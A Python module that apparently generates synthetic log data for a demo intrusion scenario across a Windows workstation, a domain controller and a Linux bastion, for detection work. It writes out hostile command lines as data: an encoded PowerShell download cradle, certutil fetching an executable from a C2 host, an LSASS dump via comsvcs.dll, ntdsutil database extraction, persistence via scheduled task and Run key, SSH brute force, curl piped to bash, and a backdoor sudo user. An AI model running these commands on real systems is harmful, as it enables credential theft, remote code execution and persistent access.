"""The intrusion itself: the steps of ``SCENARIO_SUMMARY``, on WS-ACCT-07, DC01 and bastion.

Each step writes what every source would see of it: Sysmon and Security events, Zeek and
Suricata records, auth.log, syslog and auditd.
"""

from __future__ import annotations

import base64
from dataclasses import replace
from datetime import UTC, datetime, time, timedelta

from tocsin.demo.common import (
    ATTACKER_IP,
    BACKDOOR_USER,
    BASTION_IP,
    C2_IP,
    DGA_IP,
    LOOKALIKE_DOMAIN,
    NETBIOS_DOMAIN,
    VICTIM_IP,
    VICTIM_USER,
    _utc_time,
)
from tocsin.demo.linux import _AuditWho, _ExecWho, _LinuxLog
from tocsin.demo.windows import _IMAGES, _SYSTEM, _Proc, _user, _WindowsLog

_BRUTE_USERS = (
    "admin", "test", "oracle", "postgres", "ubuntu", "user", "git", "ftpuser", "pi", "guest",
    "support", "jenkins", "hadoop", "root", "deploy", "minecraft", "ansible", "backup",
)  # fmt: skip
_VALID_LINUX_USERS = ("root", "deploy", "ansible", "ops")
_LSASS_TRACE = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
    "C:\\Windows\\System32\\comsvcs.dll+1a5c3|C:\\Windows\\system32\\rundll32.exe+3c04|"
    "UNKNOWN(000001F3A2B40000)"
)
_RUN_KEY = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate"


def _task_xml(name: str, when: datetime) -> str:
    """The TaskContent of event 4698: the XML definition of the scheduled task."""
    return (
        '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" '
        'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n  <RegistrationInfo>'
        f"\r\n    <Date>{when:%Y-%m-%dT%H:%M:%S}</Date>\r\n    <Author>{NETBIOS_DOMAIN}\\"
        f"{VICTIM_USER}</Author>\r\n    <URI>\\{name}</URI>\r\n  </RegistrationInfo>\r\n"
        "  <Triggers>\r\n    <TimeTrigger>\r\n      <Repetition>\r\n        <Interval>PT30M"
        "</Interval>\r\n      </Repetition>\r\n      <Enabled>true</Enabled>\r\n    </TimeTrigger>"
        '\r\n  </Triggers>\r\n  <Actions Context="Author">\r\n    <Exec>\r\n      <Command>'
        "C:\\Users\\Public\\a.exe</Command>\r\n    </Exec>\r\n  </Actions>\r\n</Task>"
    )


class _Story(_WindowsLog, _LinuxLog):
    """Builds the attack, step by step."""

    def anchor(self) -> datetime:
        """When j.doe opens the attachment: mid-morning if the window allows it.

        The story needs about three hours after this moment; beaconing goes on until the end.
        """
        latest = self.end - timedelta(hours=4, minutes=self.rng.uniform(0, 30))
        earliest = self.start + timedelta(hours=1)
        candidate = datetime.combine(latest.date(), time(9, 30), UTC)
        candidate += timedelta(minutes=self.rng.uniform(0, 15))
        if candidate > latest:
            candidate -= timedelta(days=1)
        return candidate if candidate >= earliest else latest

    def phishing(self, at: datetime) -> None:
        """Steps 1 to 3 on WS-ACCT-07: the attachment, its PowerShell, C2 and DGA lookups."""
        host = self.victim
        doc = (f"C:\\Users\\{VICTIM_USER}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
               "Content.Outlook\\Q3ZK8N2P\\Invoice_2024-1187.docm")  # fmt: skip
        word_line = f'"{_IMAGES["winword"].path}" /n "{doc}" /o ""'
        word = self._spawn(at, self.victim_session["outlook"], "winword", word_line)
        cradle = (
            f"IEX (New-Object Net.WebClient).DownloadString('https://{LOOKALIKE_DOMAIN}/u.ps1')"
        )
        encoded = base64.b64encode(cradle.encode("utf-16-le")).decode()
        when = self._after(at, 20, 30)
        ps = self._spawn(when, word, "powershell", f"powershell.exe -nop -w hidden -enc {encoded}")
        when = self._after(when, 1, 2)
        self._sysmon_dns(when, ps, LOOKALIKE_DOMAIN, [C2_IP])
        self._dns(when, host.ip, LOOKALIKE_DOMAIN, [C2_IP])
        when, port = self._after(when, 0.2, 0.6), self._port()
        self._sysmon_connect(when, ps, (C2_IP, 443), port)
        signature = (
            f"TOCSIN-DEMO MALWARE TLS SNI Lookalike of a Protected Domain ({LOOKALIKE_DOMAIN})"
        )
        rule = (9100001, signature, "A Network Trojan was detected", 1)
        tls: dict[str, object] = {
            "app_proto": "tls",
            "tls": {"sni": LOOKALIKE_DOMAIN, "version": "TLS 1.2"},
        }
        self._alert(when, (host.ip, port), (C2_IP, 443), "ssl", (2.4, (1650, 48211)), rule, tls)
        when = self._after(when, 20, 40)
        for attempt in range(5):
            length = self.rng.randint(12, 18)
            name = "".join(self.rng.choices("abcdefghijklmnopqrstuvwxyz0123456789", k=length))
            answers = [DGA_IP] if attempt == 4 else []
            self._sysmon_dns(when, ps, f"{name}.top", answers)
            self._dns(when, host.ip, f"{name}.top", answers)
            when = self._after(when, 0.3, 1.5)
        self.beacon(self._after(at, 90, 100))
        self.persistence(self._after(at, 170, 190), ps)
        self.credential_dump(self._after(at, 40 * 60, 45 * 60), ps)

    def persistence(self, when: datetime, ps: _Proc) -> None:
        """Step 2: certutil fetches a.exe, which runs; a scheduled task and a Run key keep it."""
        host = self.victim
        download = f"certutil.exe -urlcache -split -f http://{C2_IP}/a.exe C:\\Users\\Public\\a.exe"
        certutil = self._spawn(when, ps, "certutil", download)
        when, port = self._after(when, 0.3, 0.8), self._port()
        self._sysmon_connect(when, certutil, (C2_IP, 80), port)
        rule = (9100002, "TOCSIN-DEMO POLICY CertUtil URL Agent Downloading a Windows Executable",
                "Potentially Bad Traffic", 2)  # fmt: skip
        http = {"hostname": C2_IP, "url": "/a.exe", "http_user_agent": "CertUtil URL Agent",
                "http_content_type": "application/x-msdownload", "http_method": "GET",
                "protocol": "HTTP/1.1", "status": 200, "length": 73802}  # fmt: skip
        flow = (0.9, (412, 74210))
        self._alert(when, (host.ip, port), (C2_IP, 80), "http", flow, rule,
                    {"app_proto": "http", "http": http})  # fmt: skip
        self._sysmon_file(self._after(when, 0.5, 1), certutil, "C:\\Users\\Public\\a.exe")
        when = self._after(when, 50, 70)
        dropper = self._spawn(when, ps, "dropper", '"C:\\Users\\Public\\a.exe"')
        when, port = self._after(when, 1, 3), self._port()
        self._sysmon_connect(when, dropper, (DGA_IP, 443), port)
        self._conn(when, (host.ip, port), (DGA_IP, 443), "ssl", 1.2, (980, 2240))
        when, task = self._after(when, 40, 80), "OneDriveUpdateCheck"
        create = (f'schtasks.exe /create /tn "{task}" /tr "C:\\Users\\Public\\a.exe" /sc minute '
                  "/mo 30 /f")  # fmt: skip
        schtasks = self._spawn(when, ps, "schtasks", create)
        self._win("security", self._after(when, 0.1, 0.4), host, 4698, {
            "SubjectUserSid": ps.account.sid, "SubjectUserName": VICTIM_USER,
            "SubjectDomainName": NETBIOS_DOMAIN, "SubjectLogonId": ps.logon_id,
            "TaskName": f"\\{task}", "TaskContent": _task_xml(task, when),
            "ClientProcessStartKey": str(self.rng.randrange(10**15, 10**16)),
            "ClientProcessId": str(schtasks.pid), "ParentProcessId": str(ps.pid),
            "RpcCallClientLocality": "0", "FQDN": host.fqdn,
        })  # fmt: skip
        when = self._after(when, 20, 40)
        self._win("sysmon", when, host, 13, {
            "RuleName": "technique_id=T1547.001,technique_name=Registry Run Keys",
            "EventType": "SetValue", "UtcTime": _utc_time(when), "ProcessGuid": ps.guid,
            "ProcessId": str(ps.pid), "Image": ps.image.path,
            "TargetObject": f"HKU\\{ps.account.sid}\\{_RUN_KEY}",
            "Details": "C:\\Users\\Public\\a.exe", "User": ps.account.qualified,
        })  # fmt: skip

    def credential_dump(self, when: datetime, ps: _Proc) -> None:
        """Step 3: rundll32 with comsvcs.dll MiniDump opens LSASS and writes a dump."""
        host = self.victim
        lsass = self._root(host, "lsass", "C:\\Windows\\system32\\lsass.exe")
        dump = (f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} "
                "C:\\Users\\Public\\lsass.dmp full")  # fmt: skip
        rundll = self._spawn(when, ps, "rundll32", dump, integrity="High")
        when = self._after(when, 0.2, 0.5)
        self._win("sysmon", when, host, 10, {
            "RuleName": "-", "UtcTime": _utc_time(when), "SourceProcessGUID": rundll.guid,
            "SourceProcessId": str(rundll.pid),
            "SourceThreadId": str(self.rng.randrange(1000, 20000, 4)),
            "SourceImage": rundll.image.path, "TargetProcessGUID": lsass.guid,
            "TargetProcessId": str(lsass.pid), "TargetImage": "C:\\Windows\\system32\\lsass.exe",
            "GrantedAccess": "0x1010", "CallTrace": _LSASS_TRACE,
            "SourceUser": rundll.account.qualified, "TargetUser": _SYSTEM.qualified,
        })  # fmt: skip
        self._sysmon_file(self._after(when, 1, 3), rundll, "C:\\Users\\Public\\lsass.dmp")

    def beacon(self, first: datetime) -> None:
        """Step 6: a TLS session to the C2 every 60 s, give or take 6, until the end."""
        when = first
        while when < self.end:
            reply = self.rng.randint(4000, 12000) if self.rng.random() < 0.04 else None
            sizes = (self.rng.randint(380, 620), reply or self.rng.randint(280, 1600))
            duration = self.rng.uniform(0.2, 1.2)
            self._conn(when, (VICTIM_IP, self._port()), (C2_IP, 443), "ssl", duration, sizes)
            when += timedelta(seconds=60 + self.rng.uniform(-6, 6))

    def lateral(self, when: datetime) -> None:
        """Step 4: failed logons, then network logons to DC01, a PsExec service, ntdsutil."""
        dc, source = self.dc, self.victim
        smb = (dc.ip, 445)
        for account, count in ((_user("administrator", 500), self.rng.randint(4, 6)),
                               (_user("svc_backup", 1122), 3)):  # fmt: skip
            for _ in range(count):
                self._logon(when, dc, account, "ntlm", source, failed=True)
                self._conn(when, (source.ip, self._port()), smb, "smb", 0.05, (1400, 800))
                when = self._after(when, 2, 6)
        self._network_logon(when, dc, _user(VICTIM_USER, 1107), "ntlm", source)
        when = self._after(when, 20, 40)
        backup = _user("svc_backup", 1122)
        logon = self._logon(when, dc, backup, "ntlm", source)
        subject = {"SubjectUserSid": backup.sid, "SubjectUserName": backup.name,
                   "SubjectDomainName": backup.domain, "SubjectLogonId": logon}  # fmt: skip
        privileges = ("SeBackupPrivilege", "SeRestorePrivilege", "SeDebugPrivilege")
        self._win("security", when, dc, 4672,
                  {**subject, "PrivilegeList": "\n\t\t\t".join(privileges)})  # fmt: skip
        self._conn(when, (source.ip, self._port()), smb, "smb", 14.2, (402311, 18890))
        when = self._after(when, 3, 6)
        self._win("security", when, dc, 4697, {
            **subject, "ServiceName": "PSEXESVC", "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe",
            "ServiceType": "0x10", "ServiceStartType": "3", "ServiceAccount": "LocalSystem",
        })  # fmt: skip
        self._win("system", when, dc, 7045, {
            "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
            "ServiceType": "user mode service", "StartType": "demand start",
            "AccountName": "LocalSystem",
        })  # fmt: skip
        services = self._root(dc, "services", "C:\\Windows\\system32\\services.exe")
        when = self._after(when, 0.5, 1)
        psexesvc = self._spawn(when, services, "psexesvc", "C:\\Windows\\PSEXESVC.exe")
        context = replace(services, account=backup, logon_id=logon, integrity="High")
        when = self._after(when, 1, 2)
        cmd = self._spawn(when, psexesvc, "cmd", '"cmd.exe"', context=context)
        ifm = 'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q'
        for key, line in (("whoami", "whoami /all"), ("ntdsutil", ifm)):
            when = self._after(when, 15, 45)
            self._spawn(when, cmd, key, line)

    def linux_intrusion(self, when: datetime) -> None:
        """Step 5 on bastion: brute force, a login as deploy, curl | bash, a backdoor user."""
        for index in range(self.rng.randint(38, 52)):
            port = self.rng.randint(32768, 60999)
            self._ssh_failure(when, _BRUTE_USERS[index % len(_BRUTE_USERS)], port)
            attempt = (ATTACKER_IP, port), (BASTION_IP, 22)
            if index == 5:
                rule = (9100003, "TOCSIN-DEMO SCAN Possible SSH Brute Force Inbound (threshold)",
                        "Attempted Administrator Privilege Gain", 2)  # fmt: skip
                self._alert(when, *attempt, "ssh", (3.1, (1480, 2210)), rule, {"app_proto": "ssh"})
            else:
                self._conn(when, *attempt, "ssh", 3.1, (1480, 2210))
            when = self._after(when, 4, 14)
        length = self.rng.uniform(600, 900)
        ses = self._ssh_session(
            when, "bastion", "deploy", 1002, ATTACKER_IP, length, method="password"
        )
        self.backdoor(self._after(when, 60, 90), ses)

    def _ssh_failure(self, when: datetime, name: str, port: int) -> None:
        """One wrong password from the attacker, as sshd, PAM and auditd report it."""
        host, pid = "bastion", self._pid("bastion")
        sshd, valid = f"sshd[{pid}]", name in _VALID_LINUX_USERS
        who = name if valid else f"invalid user {name}"
        if not valid:
            self._syslog("auth", when, host, sshd,
                         f"Invalid user {name} from {ATTACKER_IP} port {port}",
                         "pam_unix(sshd:auth): check pass; user unknown")  # fmt: skip
        failure = (
            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 "
            f"tty=ssh ruser= rhost={ATTACKER_IP}" + (f"  user={name}" if valid else "")
        )
        self._syslog("auth", when, host, sshd, failure)
        when = self._after(when, 1.5, 3)
        failed = f"Failed password for {who} from {ATTACKER_IP} port {port} ssh2"
        self._syslog("auth", when, host, sshd, failed)
        attempt: _AuditWho = {"pid": pid, "acct": name if valid else "(invalid user)",
                              "addr": ATTACKER_IP}  # fmt: skip
        self._audit_user(when, host, [("USER_LOGIN", "login")], attempt, res="failed")
        closed = f"Connection closed by {who} {ATTACKER_IP} port {port} [preauth]"
        self._syslog("auth", self._after(when, 0.1, 0.5), host, sshd, closed)

    def backdoor(self, when: datetime, ses: int) -> None:
        """Step 5, continued: curl | bash under sudo, then useradd, usermod and chpasswd."""
        host, home = "bastion", "/home/deploy"
        script = f"curl -fsSL http://{C2_IP}/x.sh | bash"
        sudo = self._sudo(when, host, "deploy", 1002, f"/usr/bin/bash -c {script}", ses=ses,
                          cwd=home)  # fmt: skip
        run: _ExecWho = {"auid": 1002, "ses": ses, "cwd": home}
        shell = self._audit_exec(when, host, ["/usr/bin/bash", "-c", script], "/usr/bin/bash",
                                 ppid=sudo, **run)  # fmt: skip
        when = self._after(when, 0.01, 0.05)
        self._audit_exec(when, host, ["curl", "-fsSL", f"http://{C2_IP}/x.sh"], "/usr/bin/curl",
                         ppid=shell, **run)  # fmt: skip
        rule = (9100004, "TOCSIN-DEMO TROJAN Shell Script Fetched by curl from a Suspicious Host",
                "A Network Trojan was detected", 1)  # fmt: skip
        http = {"hostname": C2_IP, "url": "/x.sh", "http_user_agent": "curl/7.81.0",
                "http_content_type": "text/x-sh", "http_method": "GET", "protocol": "HTTP/1.1",
                "status": 200, "length": 2048}  # fmt: skip
        self._alert(when, (BASTION_IP, self.rng.randint(32768, 60999)), (C2_IP, 80), "http",
                    (0.4, (160, 2311)), rule, {"app_proto": "http", "http": http})  # fmt: skip
        bash = self._audit_exec(self._after(when, 0.2, 0.4), host, ["bash"], "/usr/bin/bash",
                                ppid=shell, **run)  # fmt: skip
        when = self._after(when, 2, 4)
        args = ["useradd", "-m", "-s", "/bin/bash", BACKDOOR_USER]
        useradd = self._audit_exec(when, host, args, "/usr/sbin/useradd", ppid=bash, **run)
        self._syslog("auth", when, host, f"useradd[{useradd}]",
                     f"new group: name={BACKDOOR_USER}, GID=1003",
                     f"new user: name={BACKDOOR_USER}, UID=1003, GID=1003, "
                     f"home=/home/{BACKDOOR_USER}, shell=/bin/bash, from=/dev/pts/0")  # fmt: skip
        tool: _AuditWho = {"acct": BACKDOOR_USER, "auid": 1002, "ses": ses, "terminal": "pts/0"}
        steps = [("ADD_GROUP", "add-group"), ("ADD_USER", "add-user")]
        self._audit_user(when, host, steps, {**tool, "pid": useradd, "exe": "/usr/sbin/useradd"})
        when = self._after(when, 1, 2)
        args = ["usermod", "-aG", "sudo", BACKDOOR_USER]
        usermod = self._audit_exec(when, host, args, "/usr/sbin/usermod", ppid=bash, **run)
        self._syslog("auth", when, host, f"usermod[{usermod}]",
                     f"add '{BACKDOOR_USER}' to group 'sudo'",
                     f"add '{BACKDOOR_USER}' to shadow group 'sudo'")  # fmt: skip
        steps = [("USER_MGMT", "add-user-to-group")]
        self._audit_user(when, host, steps, {**tool, "pid": usermod, "exe": "/usr/sbin/usermod"})
        when, chpasswd = self._after(when, 1, 2), self._pid(host)
        changed = f"pam_unix(chpasswd:chauthtok): password changed for {BACKDOOR_USER}"
        self._syslog("auth", when, host, f"chpasswd[{chpasswd}]", changed)
        steps = [("USER_CHAUTHTOK", "PAM:chauthtok")]
        self._audit_user(when, host, steps, {**tool, "pid": chpasswd, "exe": "/usr/sbin/chpasswd"})
